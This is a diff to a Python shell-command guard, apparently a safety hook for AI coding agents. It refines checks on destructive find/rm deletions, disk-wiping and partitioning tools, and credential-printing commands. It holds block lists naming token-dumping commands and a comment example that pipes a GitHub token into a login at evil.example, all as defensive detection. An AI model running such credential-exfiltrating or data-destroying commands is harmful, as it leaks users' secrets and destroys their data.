@@ -18,12 +18,13 @@ from .guard_rules import is_block_device as _is_block_device
 from .shell import Command, glob_match, program_name
 from .shell import copy_targets as _copy_targets
 from .shell import has_option as _has_option
+from .shell import listed_by as _listed_by
 from .shell import operands as _operands
 
 # For type checkers only: importing typing costs ~5 ms (see hookinput.py).
 TYPE_CHECKING = False
 if TYPE_CHECKING:
-    from typing import Any, Dict, Iterable, List, Protocol, Tuple
+    from typing import Any, Dict, Iterable, List, Optional, Protocol, Tuple
 
     class State(Protocol):
         """What the checks ask of the line a command is in (guard_engine.State)."""
@@ -34,6 +35,9 @@ if TYPE_CHECKING:
 
         @property
         def guard(self) -> Any: ...
+
+        @property
+        def cwd(self) -> Optional[str]: ...
 
 
 def _named(command: Command) -> List[str]:
@@ -51,10 +55,22 @@ def _targets(command: Command) -> List[str]:
 def _target_classes(command: Command, state: State) -> List[str]:
     if not command.roots:
         return state.classes(_operands(command.args))
-    classes = state.classes(command.roots)
-    if command.narrowed:  # find . -name '*.pyc' -exec rm -rf {} +
-        classes = ["inside" if c == "project-root" else c for c in classes]
+    classes = _root_classes(command.roots, command.narrowed, state)
     return classes + state.classes(_named(command))
+
+
+def _root_classes(roots: Iterable[str], narrowed: bool, state: State) -> List[str]:
+    """Where find's start paths land; with a test that takes some files only, the project
+    root itself counts as inside (`find . -name '*.pyc' -exec rm -rf {} +`), but not a folder
+    that holds it (`find .. -name node_modules`: the sibling projects' too)."""
+    classes = []
+    for root in roots:
+        where = state.classify(root)
+        if narrowed and where == "project-root" and \
+                state.classify(root.rstrip("/") + "/.hookwrap-probe") == "inside":
+            where = "inside"
+        classes.append(where)
+    return classes
 
 
 def _rm_root_or_home(command: Command, state: State) -> bool:
@@ -97,9 +113,7 @@ def _find_delete(command: Command, state: State) -> bool:
     """find -delete outside the project, or of all of it (no name, path, time or size test);
     find -exec rm (any options) outside it."""
     args = command.args
-    classes = [state.classify(root) for root in _find_roots(command)]
-    if command.narrowed:
-        classes = ["inside" if c == "project-root" else c for c in classes]
+    classes = _root_classes(_find_roots(command), command.narrowed, state)
     if "-delete" in find_own(args):  # not `-exec tool -delete {} ;`
         return any(c not in ("inside", "temp", "allowed", "unknown") for c in classes)
     runs = [args[i + 1] for i in range(len(args) - 1)
@@ -259,8 +273,42 @@ _CREDENTIAL_COMMANDS = {
     "az": (("account", "get-access-token"),), "heroku": (("auth:token",),),
     "doctl": (("auth", "token"),), "vault": (("print", "token"),),
     "security": (("find-generic-password",), ("find-internet-password",), ("dump-keychain",)),
-    "npm": (("token", "list"),), "op": (("read",),),
+    # 1Password's own session token; `op read` reads an item, as `vault kv get` does.
+    "npm": (("token", "list"),), "op": (("signin",),),
 }
+
+
+# Logins that read the password on stdin: a token piped into one is used, never shown, when
+# the registry is the one the token is for (`gh auth token | docker login evil.example` sends it
+# away).
+_STDIN_LOGINS = {"docker": ("login",), "podman": ("login",), "nerdctl": ("login",),
+                 "buildah": ("login",), "skopeo": ("login",), "oras": ("login",),
+                 "helm": ("registry", "login"), "crane": ("auth", "login"),
+                 "finch": ("login",)}
+_LOGIN_VALUES = frozenset(("-u", "--username", "-p", "--password", "--authfile", "--config",
+                           "--registry-config", "--ca-file", "--cert-file", "--key-file",
+                           "--cert-dir"))
+# The registries each printer's token is for (a host, or a domain it ends with).
+_TOKEN_REGISTRIES = {"aws": ("amazonaws.com", "public.ecr.aws"), "gh": ("ghcr.io",
+                     "docker.pkg.github.com"), "gcloud": ("gcr.io", "pkg.dev")}
+
+
+def _into_login(command: Command) -> bool:
+    """Whether the command's whole output goes down a pipe into a login's `--password-stdin`
+    for the registry its token is for (`aws ecr get-login-password | docker login -u AWS
+    --password-stdin 123.dkr.ecr.us-east-1.amazonaws.com`)."""
+    login = command.piped_to
+    if login is None or any(r.fd in ("", "1") and r.op[0] in ">&" for r in command.redirects):
+        return False  # (`> file`, `>&2`, `&>`: the output goes elsewhere too)
+    shape = _STDIN_LOGINS.get(login.program)
+    if shape is None or not _has_option(login.args, "--password-stdin"):
+        return False
+    operands = _operands(login.args, (*VALUE_OPTIONS.get(login.program, ()), *_LOGIN_VALUES))
+    if operands[:len(shape)] != list(shape) or len(operands) != len(shape) + 1:
+        return False
+    host = operands[-1].lower().split("://")[-1].split("/")[0]
+    return any(host == domain or host.endswith("." + domain)
+               for domain in _TOKEN_REGISTRIES.get(command.program, ()))
 
 
 def _prints_credentials(command: Command, state: State) -> bool:
@@ -275,6 +323,10 @@ def _prints_credentials(command: Command, state: State) -> bool:
                 return _has_option(command.args, "--raw|--flatten")
             if command.program == "security":
                 return _has_option(command.args, "-w|-g") or shape[0] == "dump-keychain"
+            if shape == ("signin",):
+                return _has_option(command.args, "--raw")
+            if _into_login(command):
+                return False
             if shape == ("configure", "get"):  # a setting: region and output are no secret
                 return any(word in operands[2].lower() for word in (
                     "key", "secret", "token", "password", "credential")) \
@@ -298,11 +350,27 @@ def _formats_device(command: Command, state: State) -> bool:
                                                                        "-O", "-E", "-U", "-N"}))
 
 
+def _images_only(words: List[str], state: State) -> bool:
+    """Whether a disk tool's operands are all files in the project or a temporary folder
+    (an image it builds, `parted -s build/disk.img mklabel gpt`): none a device, a link to
+    one, or a path only known when it runs."""
+    for word in words:
+        if word.startswith("/dev/") or "$" in word or "`" in word or \
+                state.classify(word) not in ("inside", "temp", "allowed"):
+            return False
+        if (word.startswith("/") or state.cwd) and \
+                os.path.realpath(os.path.join(state.cwd or "/", word)).startswith("/dev/"):
+            return False
+    return bool(words)
+
+
 def _wipes(command: Command, state: State) -> bool:
-    """shred/srm/wipe of a device or of files outside the project; wipefs that erases."""
+    """shred/srm/wipe of a device or of files outside the project; wipefs that erases, but
+    not an image file in the project."""
     if command.program == "wipefs":
         return _has_option(command.args, "-a|--all|-o|--offset") and \
-            not _has_option(command.args, "-n|--no-act")
+            not _has_option(command.args, "-n|--no-act") and \
+            not _images_only(_operands(command.args, {"-o", "--offset", "-t", "--types"}), state)
     return any(_is_block_device(word) or state.classify(word) in (
         "root-or-home", "system", "home", "outside", "project-root", "all-of-unknown")
         for word in _operands(command.args, {"-n", "--iterations", "-s", "--size",
@@ -324,7 +392,8 @@ def _volume_destroy(command: Command, state: State) -> bool:
         return operands[:1] == ["destroy"]
     if program == "cryptsetup":
         return bool(operands) and operands[0] in ("luksFormat", "erase", "luksErase",
-                                                  "luksKillSlot", "reencrypt")
+                                                  "luksKillSlot", "reencrypt") and \
+            not _images_only(operands[1:], state)
     if program == "mdadm":
         return _has_option(args, "--zero-superblock")
     if program == "hdparm":
@@ -358,6 +427,8 @@ def _partition_edit(command: Command, state: State) -> bool:
     args = command.args
     program = command.program
     operands = _operands(args)
+    if _images_only(operands, state):
+        return False  # an image file's table (`sgdisk -n 1:0:+100M build/disk.img`)
     if program == "parted":
         writes = any(word in _PARTED_WRITES for word in operands[1:])
         if writes or _has_option(args, "-l|--list|-h|--help|-v|--version"):
@@ -403,7 +474,7 @@ def _rm_unknown(command: Command, state: State) -> bool:
     for target in _named(command):
         if ("$" not in target and "`" not in target) or state.classify(target) != "unknown":
             continue  # (a relative path after `cd $DIR` is cd's question, not this rule's)
-        if target.startswith(("$(mktemp", "`mktemp")):
+        if target.startswith(("$(mktemp", "`mktemp")) or _finds_inside(target, state):
             continue
         head = target[:min(i for i in (target.find("$"), target.find("`"), len(target))
                            if i >= 0)]
@@ -415,6 +486,24 @@ def _rm_unknown(command: Command, state: State) -> bool:
             continue
         return True
     return False
+
+
+def _finds_inside(target: str, state: State) -> bool:
+    """Whether an rm target is all the output of a find or fd that lists the project's,
+    a temporary folder's or ALLOWED_PATHS' files (`rm -rf $(find . -name __pycache__)`), as
+    `find . -name __pycache__ | xargs rm -rf` is read; the whole project only with a test
+    that takes some files."""
+    if target[:2] == "$(" and target[-1:] == ")" and target.count("$(") == 1:
+        inner = target[2:-1]
+    elif target[:1] == "`" and target[-1:] == "`" and target.count("`") == 2:
+        inner = target[1:-1]
+    else:
+        return False
+    listed = _listed_by(inner)
+    if listed is None:
+        return False
+    return all(where in ("inside", "temp", "allowed") for where in _root_classes(
+        listed[0], listed[1], state))
 
 
 # Your home directory's own folders: `rm -rf "$D/Documents"` with D your home loses them.
